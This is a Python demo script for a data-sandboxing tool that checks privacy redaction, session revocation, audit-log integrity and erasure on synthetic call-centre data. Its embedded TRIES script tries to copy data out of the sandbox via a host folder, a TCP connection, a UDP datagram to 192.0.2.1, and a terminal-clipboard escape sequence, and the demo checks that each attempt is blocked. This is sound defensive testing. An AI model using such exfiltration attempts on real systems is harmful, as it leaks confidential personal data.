"""The demonstration behind demo.sh: shows, and checks what it shows."""
# SPDX-License-Identifier: Apache-2.0
import csv
import glob
import hashlib
import io
import json
import os
import pwd
import re
import shutil
import socket
import subprocess
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                'demo'))
import hear  # noqa: E402
import stage  # noqa: E402
from stage import TOP, WIDTH, Failed, Stage, claim, say, step  # noqa: E402

POLICIES = os.path.join(TOP, 'example-policies')
CALLS = os.path.join(POLICIES, 'call-center.yaml')
PAD = 0.1  # pad_ms of call-center.yaml, in seconds

# Runs inside a session: prints all text that can be seen, as JSON.
LOOK = r'''
import json, os
out = {}
for base, dirs, files in os.walk("/carrel/data"):
    for f in files:
        p = os.path.join(base, f)
        wav = f.endswith(".wav")
        out[os.path.relpath(p, "/carrel/data")] = (
            os.path.getsize(p) if wav else open(p, encoding="utf-8").read())
print("<<<" + json.dumps(out) + ">>>")
'''
# Ways of copying out, tried inside; each says how it went.
TRIES = r'''
import os, shutil, socket
src = [os.path.join(b, f) for b, _, fs in os.walk("/carrel/data")
       for f in fs if not f.endswith(".wav")][0]
data = open(src, "rb").read()
def attempt(what, fn):
    try:
        fn()
        print("TRY", what, "-> done, inside")
    except OSError as e:
        print("TRY", what, "->", e.strerror)
def connect():
    socket.create_connection(("127.0.0.1", PORT), 1).sendall(data)
def datagram():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(data[:500], ("192.0.2.1", 53))
attempt("cp to a folder of the host", lambda: shutil.copy(src, HOST))
attempt("send it to a server on this machine", connect)
attempt("send it to another machine as a datagram", datagram)
attempt("write it beside the data",
        lambda: open(src + ".copy", "wb").write(data))
print("\033]52;c;Y2xpcGJvYXJk\a(TRY the terminal's clipboard)")
'''


def names_of(d):
    """All callers, as the owner has them."""
    out = set()
    for p in glob.glob(d.data + '/bank/metadata/*/*.json'):
        with open(p, encoding='utf-8') as f:
            out.add(json.load(f)['caller']['name'])
    return out


def allowed_of(d):
    """Names of the calls whose callers have consented."""
    for p in glob.glob(d.data + '/bank/metadata/*/*.json'):
        with open(p, encoding='utf-8') as f:
            if json.load(f)['consent']:
                yield os.path.basename(p)[:-5]


def make_store(d):
    step('the owner makes a store and takes the data in')
    subprocess.run([os.path.join(TOP, 'tools', 'demo-data'), d.data],
                   check=True)
    vkey = d.run('init').stdout.strip()
    for name in ('bank', 'clinic'):
        r = d.run('ingest', '--manifest', f'{d.data}/{name}.yaml',
                  f'{d.data}/{name}').stdout.splitlines()
        say('   ' + r[0])
    some = sorted(names_of(d))[0]
    bad = subprocess.run(['grep', '-rlaiF', '-e', some, '-e', '-000.json',
                          '-e', some.lower().replace(' ', '-'),
                          '-e', 'Harbor Bank', d.env['CARREL_STORE']],
                         capture_output=True, text=True).stdout
    claim(not bad, 'no name, file name or sentence is readable in the store')
    total = 0
    for p in sorted(glob.glob(POLICIES + '/*[a-z].yaml')):
        if not p.endswith('.test.yaml'):
            d.run('policy', 'check', p, show=False)
            r = d.run('policy', 'test', p, show=False).stdout
            total += int(re.search(r'(\d+) passed, 0 failed', r)[1])
    say('$ carrel policy check, carrel policy test   (five example policies)')
    claim(total > 30, f'they are well formed, and all of {total} tests pass')
    return vkey


def look(d, who):
    code, out = d.session('--policy', CALLS, '--as', who, '--', 'python3',
                          '-c', LOOK).end()
    m = re.search('<<<(.*)>>>', out, re.S)
    if code != 0 or not m:
        raise Failed(f'the session failed ({code}): {out[-800:]}')
    say('   ' + next(x for x in out.splitlines() if
                     x.startswith('carrel: session')))
    return json.loads(m.group(1).replace('\n', ''))


class Call:
    """One call as alice sees it, beside what the owner has."""

    def __init__(self, d, seen, path):
        self.path = path
        self.number = path[-8:-5]
        self.lang = path.split('/')[2]
        self.mine = json.loads(seen[path])
        with open(self.source(d, 'calls', 'json'), encoding='utf-8') as f:
            self.orig = json.load(f)
        with open(self.source(d, 'metadata', 'json'), encoding='utf-8') as f:
            self.meta = json.load(f)

    def source(self, d, kind, ext):
        return glob.glob(f'{d.data}/bank/{kind}/*/*-{self.number}.{ext}')[0]

    def partner(self, kind, ext):
        return self.path.replace('/calls/', f'/{kind}/')[:-4] + ext

    def words(self):
        return [(a, b) for x, y in zip(self.mine['segments'],
                                       self.orig['segments'])
                for a, b in zip(x['words'], y['words'])]

    def hidden(self, pattern=''):
        """[(start, end)] of the words that alice sees in another way."""
        return [(b['start'], b['end']) for a, b in self.words()
                if a['word'] != b['word'] and re.search(pattern, b['word'])]


def dealt(d, groups):
    """Those of the groups that are alice's, by the formula of
    carrel-policy(5): the two of three with the highest scores."""
    key = bytes.fromhex(json.loads(d.run(
        'policy', 'explain', '--policy', CALLS, '--as', 'alice',
        '--assignment', '--json', show=False).stdout)['assign_key'])

    def score(who, group):
        parts = (b'calls-01', b'g\0' + group.encode(), who.encode())
        h = hashlib.blake2b(key=key, digest_size=32)
        for p in parts:
            h.update(len(p).to_bytes(4, 'big') + p)
        return h.digest()[:8]

    return {g for g in groups if 'alice' in sorted(
        ('alice', 'carol', 'dan'), key=lambda w: score(w, g))[1:]}


def look_at_tree(d, seen):
    for path in sorted(seen)[:2] + sorted(seen)[-2:]:
        n = seen[path]
        n = n if isinstance(n, int) else len(n.encode())
        say(f'   {path:<56}{n:>9,} bytes')
    calls = [Call(d, seen, p) for p in seen if '/calls/' in p]
    say(f'   ... {len(seen)} files, {len(calls)} of 60 calls')
    mine = dealt(d, allowed_of(d))
    claim({os.path.basename(c.source(d, 'calls', 'json'))[:-5]
           for c in calls} == mine, 'only calls with consent, and of these '
          'only those that the keyed draw deals to alice')
    text = json.dumps(seen, ensure_ascii=False).lower()
    leaks = [n for n in names_of(d) if n.lower() in text or
             n.lower().replace(' ', '-') in text]
    numbers = set()
    for p in glob.glob(d.data + '/bank/c*/*/*'):
        with open(p, encoding='utf-8') as f:
            numbers.update(re.findall(
                r'\d{4} \d{4} \d{4} \d{4}|HB-\d+|\w+@example.org|\+1-[\d-]+',
                f.read()))
    claim(not leaks and len(numbers) > 60 and
          not any(n.lower() in text for n in numbers),
          f'none of {len(names_of(d))} names and {len(numbers)} numbers and '
          'addresses is in anything, in either language')
    return calls


def wrap(text, width):
    out, line = [], ''
    for w in text.split():
        if len(line) + len(w) + 1 > width:
            out.append(line)
            line = ''
        line = (line + ' ' + w).strip()
    return out + [line]


def beside(call, turns):
    half = WIDTH // 2 - 3
    for a, b in list(zip(call.mine['segments'], call.orig['segments']))[turns]:
        left, right = wrap(a['text'], half - 1), wrap(b['text'], half - 1)
        for i in range(max(len(left), len(right))):
            x = left[i] if i < len(left) else ''
            y = right[i] if i < len(right) else ''
            say(f'   {x:<{half}}| {y}')


def show_calls(d, seen, calls):
    """The call that everything else is shown on."""
    english = [c for c in calls if c.lang == 'en' and
               c.partner('chat', 'jsonl') in seen and
               hear.Wav(open(c.source(d, 'audio', 'wav'), 'rb').read()
                        ).channels == 1]
    german = [c for c in calls if c.lang == 'de']
    if not english or not german:
        raise Failed('alice was dealt no such calls: run it again')
    step('a transcript, and beside it what only the owner sees')
    beside(english[0], slice(0, 4))
    beside(german[0], slice(1, 2))
    claim(all(len(c.mine['segments']) == len(c.orig['segments']) and
              c.hidden(r'\d') for c in calls),
          'every transcript is whole, and has its numbers hidden')
    return english[0]


def show_same(d, seen, call):
    step('one person is one stand-in')
    rows = list(csv.DictReader(io.StringIO(seen['bank/customers.csv'])))
    with open(d.data + '/bank/customers.csv', encoding='utf-8') as f:
        k = [r['name'] for r in csv.DictReader(f)].index(
            call.meta['caller']['name'])
    name = rows[k]['name']
    chat = seen[call.partner('chat', 'jsonl')].splitlines()[0]
    say(f'   file name   {call.path}')
    say(f'   transcript  {call.mine["segments"][1]["text"]}')
    say(f'   chat        {chat}')
    say(f'   table       {",".join(rows[k].values())}')
    claim(name in call.mine['segments'][1]['text'] and name in chat and
          name.lower().replace(' ', '-').replace('.', '') in call.path,
          f'{name} in all four')


def show_sound(d, call, heard):
    """heard: the recording's bytes as alice saved them."""
    step('the card number in the recording')
    with open(call.source(d, 'audio', 'wav'), 'rb') as f:
        before, after = hear.Wav(f.read()), hear.Wav(heard)
    card = call.hidden(r'^\d{4}[.,]?$')
    a, b, n = card[0][0] - 1.2, card[-1][1] + 1.2, 86
    levels = [w.levels(a, b, n) for w in (before, after)]
    top = max(levels[0])
    say('   source  ' + hear.bars(levels[0], top))
    say('   alice   ' + hear.bars(levels[1], top))
    say('   digits  ' + hear.marks(card, a, b, n))
    tone = after.levels(card[0][0], card[-1][1], 40)
    claim(max(tone) < 1.05 * min(tone) and min(tone) > 100,
          f'from {card[0][0]:.2f} s to {card[-1][1]:.2f} s, where the '
          'transcript has the digits, an even tone')
    outside, same = hear.changed(before, after, call.hidden(), PAD)
    claim(len(before.samples) == len(after.samples) and not outside,
          f'all samples outside are bit for bit the same, {before.frames():,} '
          'in all')
    claim(same < 0.02, 'and none of what was said within is left')


def show_bob(d, call):
    step('bob, of quality control, works under another role')
    seen = look(d, 'bob')
    text = call.orig['segments'][0]['text']
    calls = {p: json.loads(v) for p, v in seen.items() if p.endswith('.json')}
    same = [(p, c) for p, c in calls.items() if [
        s['start'] for s in c['segments']] == [
        s['start'] for s in call.orig['segments']]]
    claim(len(same) == 1 and same[0][1]['segments'][0]['text'] == text,
          f'sees all {len(calls)} calls with consent, this one as '
          f'{os.path.basename(same[0][0])}')
    for s in same[0][1]['segments'][1:4]:
        say('   ' + s['text'])
    all_ = json.dumps(seen)
    claim('[PERSON_1]' in all_ and '$' in all_ and
          not re.search(r'\*\*\*\*|\$\d+\.\d\d', all_) and
          not any('customers' in p or '/chat/' in p for p in seen),
          'tags for names and cards, classes for amounts; no chat, no list')


def annotate(d, call):
    """The recording's bytes as alice saved them."""
    step("alice's work, made with sox, and taken out by the owner")
    wav = call.partner('audio', 'wav')
    say(f'$ sox data/{wav} work/cut.wav trim 1 4')
    code, out = d.session(
        '--policy', CALLS, '--as', 'alice', '--', 'sh', '-c',
        f'sox -D data/{wav} work/cut.wav trim 1 4 && cp data/{wav} work',
        show=False).end()
    if code != 0:
        raise Failed(f'sox in a session: {code} {out[-800:]}')
    saved = d.path('saved')
    d.run('work', 'export', '--as', 'alice', '--out', saved)
    heard = os.path.join(saved, os.path.basename(wav))
    want = d.path('want.wav')
    subprocess.run(['sox', '-D', heard, want, 'trim', '1', '4'], check=True)
    with open(want, 'rb') as a, open(saved + '/cut.wav', 'rb') as b, \
            open(heard, 'rb') as c:
        claim(a.read() == b.read(), 'cut.wav has the four seconds of what '
              'alice hears')
        return c.read()


def refuse(d):
    step('ways of copying out')
    host = d.path('stolen')
    os.mkdir(host)
    tcp = socket.create_server(('127.0.0.1', 0))
    script = TRIES.replace('HOST', repr(host)).replace(
        'PORT', str(tcp.getsockname()[1]))
    code, out = d.session('--policy', CALLS, '--as', 'alice', '--', 'python3',
                          '-c', script).end()
    tries = [x for x in out.splitlines() if x.startswith('TRY')]
    for t in tries:
        say('   ' + t[4:])
    claim(code == 0 and len(tries) == 4 and
          not any(t.endswith('inside') for t in tries),
          'each was refused inside')
    arrived = os.listdir(host)
    tcp.settimeout(0.2)
    try:
        arrived.append(tcp.accept())
    except OSError:
        pass
    claim(not arrived and '(TRY' in out and '\033]' not in out,
          'nothing arrived outside, also not in the clipboard of the terminal')
    r = subprocess.run([d.carrel, 'run', '--policy', CALLS, '--as', 'alice',
                        '--', 'sh', '-c', 'cat /carrel/data/bank/calls/*/*'],
                       env=d.env, capture_output=True,
                       stdin=subprocess.DEVNULL)
    say('   carrel run ... > file  -> ' + r.stderr.decode().splitlines()[0])
    claim(r.returncode == 2 and not r.stdout,
          'a session whose output goes to a file does not start')


def revoke(d):
    step('a session that is revoked while it runs')
    with open(CALLS, encoding='utf-8') as f:
        text = f.read()
    who = 'alice: { role: transcriber, tasks: [calls-01]'
    login = pwd.getpwuid(os.getuid()).pw_name
    mine = f'{who}, user: "{login}"'
    on = d.write('in-force.yaml', text.replace(who, mine))
    off = d.write('revoked.yaml', text.replace(
        who, mine + time.strftime(', revoked: %Y-%m-%d', time.gmtime())))
    d.run('policy', 'apply', on)
    s = d.session('--', 'sh', '-c', 'ls data > work/last && echo READY && sleep 600')
    s.read(b'READY\r')
    d.run('policy', 'apply', off)
    code, out = s.end()
    say('   ' + out.splitlines()[-1])
    kept = d.run('work', 'list', '--as', 'alice', show=False).stdout
    claim(code == 5 and 'ended: policy changed' in out.splitlines()[-1] and
          kept.rstrip().endswith('last'),
          'what ran in it is gone, and what it saved is kept')
    s = d.session('--', 'true')
    code, out = s.end()
    say('   ' + out.splitlines()[-1])
    claim(code == 5 and 'revoked' in out, 'and no other one begins')


def audit(d, vkey, call):
    step('the auditor')
    r = d.run('audit', 'verify', '--key', vkey)
    say('   ' + r.stdout)
    claim(r.stdout.startswith('good'), 'the log verifies against the key')
    r = d.run('audit', 'log', '--op', 'READ', '--path', call.path)
    reads = r.stdout.splitlines()
    say('   ' + reads[0])
    claim(reads and all(' alice/' in x for x in reads),
          'who read what is on record')
    starts = [json.loads(x) for x in d.run(
        'audit', 'log', '--op', 'SESSION_START', '--json',
        show=False).stdout.splitlines()]
    seq = str(starts[0]['entry']['seq'])
    r = d.run('audit', 'replay', '--session', seq, '--out', d.path('again'))
    say('   ' + r.stderr.splitlines()[-1])
    claim(' 0 differ, 0 could not' in r.stderr,
          'every read of the session was made again, byte for byte')
    forge(d, vkey)
    return str(json.loads(d.run(
        'audit', 'log', '--op', 'READ', '--path', call.path, '--json',
        show=False).stdout.splitlines()[0])['entry']['seq'])


def forge(d, vkey):
    copy = d.path('forged')
    shutil.copytree(os.path.join(d.env['CARREL_STORE'], 'log'), copy)
    for base, _, files in os.walk(os.path.join(copy, 'tile', 'entries')):
        for f in files:
            with open(os.path.join(base, f), 'r+b') as h:
                h.seek(os.path.getsize(h.name) // 2)
                c = h.read(1)
                h.seek(-1, 1)
                h.write(bytes([c[0] ^ 1]))
    r = d.run('audit', 'verify', '--log', copy, '--key', vkey, code=1,
              show=False)
    claim(r.returncode == 1, 'one bit changed in a copy of the log is found')


def erase(d, calls, call, seq):
    step('a customer asks to be forgotten')
    name = call.meta['caller']['name']
    subject = d.write('subject.txt', name + '\n')
    r = d.run('erase', '--value-file', subject, '--yes')
    for line in r.stdout.splitlines()[:2]:
        say('   ' + line.replace('\t', '  '))
    say('   ' + next(x for x in r.stderr.splitlines() if ': erased' in x))
    left = d.run('ls', 'bank', '--json', show=False).stdout
    d.run('erase', '--value-file', subject, '--dry-run', code=4, show=False)
    claim(name.lower().replace(' ', '-') not in left.lower(),
          f'no file, row, mail or answer about {name} is left')
    r = d.run('audit', 'replay', seq, code=3)
    say('   ' + (r.stdout + r.stderr).splitlines()[-1])
    claim('erased' in r.stdout + r.stderr,
          'what was read before cannot be made again: the keys are gone')
    d.run('fsck', show=False)
    out = d.path('after')
    d.run('preview', '--policy', CALLS, '--as', 'alice', '--out', out,
          show=False)
    others = {c.path for c in calls if c.meta['caller']['name'] != name}
    claim({os.path.relpath(p, out) for p in glob.glob(
        out + '/bank/calls/*/*')} == others,
          f'alice has her {len(others)} other calls still')


def main():
    with Stage(os.path.abspath(sys.argv[1])) as d:
        vkey = make_store(d)
        step('alice sits down')
        seen = look(d, 'alice')
        calls = look_at_tree(d, seen)
        call = show_calls(d, seen, calls)
        show_same(d, seen, call)
        show_sound(d, call, annotate(d, call))
        show_bob(d, call)
        refuse(d)
        revoke(d)
        erase(d, calls, call, audit(d, vkey, call))
        if stage.lines >= stage.LINES:
            raise Failed(f'{stage.lines + 1} lines are too many')
        say('All claims hold.')


if __name__ == '__main__':
    sys.stdout.reconfigure(encoding='utf-8')
    try:
        main()
    except Failed as e:
        print(f'\nDEMO FAILED: {e}', file=sys.stderr)
        sys.exit(1)
